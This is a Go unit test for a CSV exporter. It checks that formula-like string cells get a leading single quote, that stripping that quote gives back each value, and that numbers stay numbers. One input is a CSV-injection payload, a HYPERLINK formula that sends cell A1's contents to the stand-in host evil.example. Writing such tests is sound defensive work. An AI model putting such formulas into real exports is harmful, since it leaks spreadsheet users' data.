package processors

import (
	"path/filepath"
	"testing"
)

// TestCSVCellsAreNoFormulas: a string field that a spreadsheet would take for a formula
// (=, +, -, @, tab, CR first) is written with a leading single quote, a string starting
// with a quote gets one more, and removing one leading quote gives back every value; a
// number field (-5) stays a number; a reopened file still knows the keys it holds.
func TestCSVCellsAreNoFormulas(t *testing.T) {
	t.Parallel()
	path := filepath.Join(t.TempDir(), "items.csv")
	values := map[string]string{
		"a": `=HYPERLINK("http://evil.example/?"&A1,"click")`,
		"b": "@SUM(A1:A9)",
		"c": "+1",
		"d": "-2 apples",
		"e": "\tx",
		"f": "\r=1",
		"g": "'=1",
		"h": "plain text",
		"i": "",
	}
	want := map[string]string{
		"a": `'=HYPERLINK("http://evil.example/?"&A1,"click")`,
		"b": "'@SUM(A1:A9)",
		"c": "'+1",
		"d": "'-2 apples",
		"e": "'\tx",
		"f": "'\r=1",
		"g": "''=1",
		"h": "plain text",
		"i": "",
	}
	extra := map[string]any{"n": float64(-5)}
	for k, v := range values {
		extra[k] = v
	}
	s := openCSV(t, path, nil)
	mustStore(t, s, product(1, extra), true)
	if err := s.Close(t.Context()); err != nil {
		t.Fatal(err)
	}
	rows := readCSV(t, path)
	if len(rows) != 2 {
		t.Fatalf("%d rows, want header and 1", len(rows))
	}
	cell := map[string]string{}
	for i, name := range rows[0] {
		cell[name] = rows[1][i]
	}
	for k, w := range want {
		if cell[k] != w {
			t.Errorf("field %s = %q: cell %q, want %q", k, values[k], cell[k], w)
		}
		if raw := rawCSVCell(cell[k]); raw != values[k] {
			t.Errorf("field %s: cell %q read back as %q, want %q", k, cell[k], raw, values[k])
		}
	}
	if cell["n"] != "-5" {
		t.Errorf("number field -5: cell %q, want -5", cell["n"])
	}

	s = openCSV(t, path, nil)
	mustStore(t, s, product(1, extra), false) // known from the file: not written again
	if err := s.Close(t.Context()); err != nil {
		t.Fatal(err)
	}
	if n := len(readCSV(t, path)); n != 2 {
		t.Errorf("after a reopen and the same item: %d rows, want 2", n)
	}
}
